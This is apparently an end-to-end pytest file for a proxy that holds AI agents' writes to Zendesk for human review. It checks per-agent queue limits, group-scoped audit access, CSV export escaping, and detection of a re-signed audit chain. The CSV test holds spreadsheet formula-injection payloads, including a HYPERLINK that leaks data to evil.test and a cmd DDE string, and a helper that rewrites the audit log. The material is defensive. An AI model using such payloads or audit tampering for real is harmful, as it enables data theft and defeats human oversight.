"""The review side attacked by an agent, a curious reviewer and whoever holds the data dir.

Rules, each through the real proxy process:
- One agent cannot lock the others out: past `limits.max_pending_per_agent` pending writes its
  next write is answered 429 naming it and the limit, while another agent's write is still held.
- A reviewer reads only the audit entries of approvals routed to their groups (an unrouted
  approval is anyone's); entries of no approval (writes a rule allowed) are for the `auditor`
  group, which reads everything. Another group's approval is 404, like a missing one.
- Agent-controlled text (X-HITL-* headers, a record id in the path) never reaches a
  spreadsheet as a live formula: every CSV export prefixes a cell starting with = + - @ tab or
  CR with an apostrophe (OWASP).
- The audit chain's head is published off the data dir (log line, /metrics), and
  `audit verify --head SEQ:HASH` fails on a chain rewritten and re-signed with a new key,
  which `audit verify` alone cannot see.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import sqlite3
import ssl
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from cryptography.fernet import Fernet

from proxy_addon.sealing import KEY_ENV, audit_key
from review_api.store import GENESIS_HASH, entry_hash
from tests.e2e.conftest import ALICE, BOB, CONFIG, UpstreamTLS, Vendor, start_proxy
from tests.e2e.harness import ProxyProcess, hitl_proxy_command
from tests.fakes.zendesk import FakeZendesk

ADA = "ada-auditor-token-000003"
ZENDESK_AUTH = ("agent@acme.test/token", "zd-api-token-123")
ROUTED = f"""
reviewers:
  - {{name: alice, token: "{ALICE}", groups: [support]}}
  - {{name: bob, token: "{BOB}", groups: [finance]}}
  - {{name: ada, token: "{ADA}", groups: [auditor]}}
policy:
  - name: tags-are-safe
    match: {{system: Zendesk, object: ticket, fields: [tags]}}
    action: allow
  - name: priority-is-finance
    match: {{system: Zendesk, object: ticket, fields: [priority]}}
    action: hold
    reviewers: [finance]
  - name: support-reviews-zendesk
    match: {{system: Zendesk}}
    action: hold
    reviewers: [support]
"""
FORMULA = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory, upstream_tls: UpstreamTLS,
         vendors: dict[str, Vendor]) -> Iterator[ProxyProcess]:
    process = start_proxy(tmp_path_factory.mktemp("review-side"), upstream_tls, vendors,
                          "--hold-timeout", "1", config=ROUTED)
    yield process
    assert process.stop() == 0, process.log()


def agent(proxy: ProxyProcess, proxy_url: str | None = None, **headers: str) -> httpx.Client:
    trust = ssl.create_default_context(cafile=str(proxy.ca_cert))
    return httpx.Client(proxy=proxy_url or proxy.proxy_url, verify=trust, timeout=30,
                        headers=headers, auth=ZENDESK_AUTH, trust_env=False)


def ticket_url(ticket: int | str) -> str:
    return f"https://acme.zendesk.com/api/v2/tickets/{ticket}.json"


def pending_id(response: httpx.Response) -> str:
    """The agent's 202 after the short hold: the write waits, the test goes on."""
    assert response.status_code == 202, response.text
    return str(response.json()["approval_id"])


def audit(proxy: ProxyProcess, token: str, **params: str) -> httpx.Response:
    return proxy.api("GET", "/api/audit", token=token, params=params)


@contextlib.contextmanager
def page_session(proxy: ProxyProcess, token: str) -> Iterator[httpx.Client]:
    """A reviewer signed in to the web page (session cookie)."""
    with httpx.Client(base_url=proxy.review_url, timeout=10, trust_env=False) as client:
        assert client.post("/login", data={"token": token}).status_code == 303
        yield client


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def recorded(proxy: ProxyProcess, approval_id: str, timeout: float = 10) -> None:
    """The traffic record writes in batches, a moment after the request ends."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = proxy.api("GET", "/api/traffic", token=ADA, params={"approval_id": approval_id})
        if found.status_code == 200 and found.json()["entries"]:
            return
        time.sleep(0.05)
    raise AssertionError(f"approval {approval_id} never reached the traffic record")


def test_one_agent_flooding_the_queue_leaves_room_for_another(
        tmp_path: Path, upstream_tls: UpstreamTLS, vendors: dict[str, Vendor],
        fake: FakeZendesk) -> None:
    flooder, steady = "flooder-secret-00000001", "steady-secret-000000002"
    config = CONFIG + f"""
agents:
  - {{name: flooder, secret: "{flooder}"}}
  - {{name: steady, secret: "{steady}"}}
limits: {{max_pending: 100, max_pending_per_agent: 2}}
"""
    proxy = start_proxy(tmp_path, upstream_tls, vendors, "--hold-timeout", "0.5", config=config)
    try:
        for ticket in (911, 912, 913, 914):
            fake.seed(ticket, subject="Printer")
        def as_agent(name: str, secret: str) -> httpx.Client:
            return agent(proxy, f"http://{name}:{secret}@127.0.0.1:{proxy.listen_port}")

        with as_agent("flooder", flooder) as bot:
            for ticket in (911, 912):
                pending_id(bot.put(ticket_url(ticket), json={"ticket": {"subject": "x"}}))
            refused = bot.put(ticket_url(913), json={"ticket": {"subject": "x"}})
        assert refused.status_code == 429, refused.text
        assert "flooder" in refused.text and "max_pending_per_agent is 2" in refused.text
        with as_agent("steady", steady) as other:
            held_id = pending_id(other.put(ticket_url(914), json={"ticket": {"subject": "y"}}))
        approval = proxy.api("GET", f"/api/approvals/{held_id}").json()
        assert (approval["status"], approval["context"]["agent"]) == ("pending", "steady")
        assert fake.log.of("PUT") == []
        assert fake.tickets[913]["subject"] == "Printer"
    finally:
        assert proxy.stop() == 0, proxy.log()


def test_a_reviewer_reads_only_the_audit_of_their_groups(
        gate: ProxyProcess, fake: FakeZendesk) -> None:
    for ticket in (921, 922, 923):
        fake.seed(ticket, subject="Printer", priority="low", tags=["new"])
    with agent(gate, **{"X-HITL-Agent": "triage"}) as bot:
        support = pending_id(bot.put(ticket_url(921), json={"ticket": {"subject": "Fixed"}}))
        finance = pending_id(bot.put(ticket_url(922), json={"ticket": {"priority": "high"}}))
        assert bot.put(ticket_url(923), json={"ticket": {"tags": ["seen"]}}).status_code == 200
    assert gate.decide(finance, "reject", "not now", token=BOB).status_code == 200

    def approvals_seen(token: str) -> set[str | None]:
        response = audit(gate, token)
        assert response.status_code == 200, response.text
        return {entry["approval_id"] for entry in response.json()["entries"]}

    assert support in approvals_seen(ALICE) and finance not in approvals_seen(ALICE)
    assert finance in approvals_seen(BOB) and support not in approvals_seen(BOB)
    assert None not in approvals_seen(ALICE) | approvals_seen(BOB)  # the allowed write
    assert {support, finance, None} <= approvals_seen(ADA)
    allowed = [e for e in audit(gate, ADA).json()["entries"] if e["event"] == "allowed"]
    assert allowed[-1]["detail"]["rule"] == "tags-are-safe"

    hidden, missing = audit(gate, ALICE, approval_id=finance), audit(
        gate, ALICE, approval_id="00000000-0000-0000-0000-000000000000")
    assert hidden.status_code == missing.status_code == 404
    assert hidden.json() == {"error": f"no approval {finance}"}
    mine = audit(gate, BOB, approval_id=finance).json()["entries"]
    assert [e["event"] for e in mine] == ["held", "rejected"]
    assert audit(gate, ADA, approval_id=support).status_code == 200


def test_agent_text_reaches_csv_exports_as_text_never_as_a_formula(
        gate: ProxyProcess, fake: FakeZendesk) -> None:
    reason = '=HYPERLINK("https://evil.test/?leak="&A1,"Open the ticket")'
    headers = {"X-HITL-Reason": reason, "X-HITL-Task": "+cmd|' /C calc'!A0",
               "X-HITL-Agent": "@SUM(1+1)*cmd"}
    with agent(gate, **headers) as bot:
        approval_id = pending_id(bot.put(ticket_url("=HYPERLINK(0)"),
                                         json={"ticket": {"subject": "-2+3"}}))
    assert gate.decide(approval_id, "reject", "-1 from me", token=ALICE).status_code == 200

    with page_session(gate, ALICE) as page:
        history = page.get("/history.csv")
    assert history.status_code == 200, history.text
    [row] = [r for r in rows_of(history.text) if r["id"] == approval_id]
    assert row["record_id"] == "'=HYPERLINK(0)"
    assert row["task"] == "'+cmd|' /C calc'!A0" and row["agent"] == "'@SUM(1+1)*cmd"
    assert row["note"] == "'-1 from me" and row["reason"] == "'" + reason

    recorded(gate, approval_id)
    exported = gate.api("GET", "/api/traffic/export", token=ADA, params={"format": "csv"})
    with page_session(gate, ADA) as page:
        paged = page.get("/traffic.csv", params={"approval_id": approval_id})
    for response in (exported, paged):
        assert response.status_code == 200, response.text
        [entry] = [r for r in rows_of(response.text) if r["approval_id"] == approval_id]
        assert entry["record_id"] == "'=HYPERLINK(0)" and entry["agent"] == "'@SUM(1+1)*cmd"
        assert entry["task"] == "'+cmd|' /C calc'!A0"
    for text in (history.text, exported.text, paged.text):
        cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
        assert not [cell for cell in cells if FORMULA.match(cell)]


def resign_chain(database: Path, key: bytes) -> None:
    """What whoever holds the data dir can do: rewrite an entry and re-sign the whole chain."""
    with sqlite3.connect(database) as db:
        db.execute("UPDATE audit SET actor = 'mallory' WHERE seq = 2")
        previous, last = GENESIS_HASH, 0
        for seq, *fields in db.execute("SELECT seq, at, event, approval_id, actor, detail"
                                       " FROM audit ORDER BY seq").fetchall():
            digest = entry_hash(key, previous, *fields)
            db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE seq = ?",
                       (previous, digest, seq))
            previous, last = digest, seq
    database.with_name("audit.head").write_text(f"{last} {previous}\n")


def _head_of(metrics: str) -> tuple[int, str]:
    seq = re.search(r"^hitl_audit_head_seq (\d+)\.0$", metrics, re.M)
    digest = re.search(r'^hitl_audit_head_info\{hash="([0-9a-f]{64})"', metrics, re.M)
    assert seq and digest, metrics
    return int(seq.group(1)), digest.group(1)


def test_a_witnessed_head_exposes_a_chain_re_signed_with_a_new_key(
        tmp_path: Path, upstream_tls: UpstreamTLS, vendors: dict[str, Vendor],
        fake: FakeZendesk) -> None:
    proxy = start_proxy(tmp_path, upstream_tls, vendors, "--hold-timeout", "1")
    try:
        fake.seed(931, subject="Printer")
        with agent(proxy) as bot:
            approval_id = pending_id(bot.put(ticket_url(931),
                                             json={"ticket": {"subject": "Fixed"}}))
        assert proxy.decide(approval_id, "approve").status_code == 200
        proxy.wait_for_status(approval_id, "executed")
        witnessed = _head_of(proxy.api("GET", "/metrics").text)
    finally:
        assert proxy.stop() == 0, proxy.log()
    log = proxy.log()
    assert "inside the data dir" in log and "HITL_PROXY_KEY" in log  # the start-up warning
    logged = re.findall(r"audit head seq=(\d+) hash=([0-9a-f]{64})", log)
    assert logged[0][0] == "0" and (int(logged[-1][0]), logged[-1][1]) == witnessed

    # Whoever can write the data dir replaces the key and re-signs a rewritten history.
    new_seal = Fernet.generate_key()
    (proxy.data_dir / "seal.key").write_bytes(new_seal)
    resign_chain(proxy.data_dir / "hitl.sqlite3", audit_key(new_seal))
    verify = [*hitl_proxy_command(), "audit", "verify", "--data-dir", str(proxy.data_dir)]
    alone = _run(verify)
    assert alone.returncode == 0, alone.stderr  # the chain alone cannot tell
    seq, digest = witnessed
    against = _run([*verify, "--head", f"{seq}:{digest}"])
    assert against.returncode == 1, against.stdout
    assert f"entry {seq}: its hash is" in against.stderr
    assert f"the witnessed head says {digest}" in against.stderr


def _run(command: list[str]) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != KEY_ENV}  # the key in the data dir
    return subprocess.run(command, capture_output=True, text=True, timeout=60, env=env)
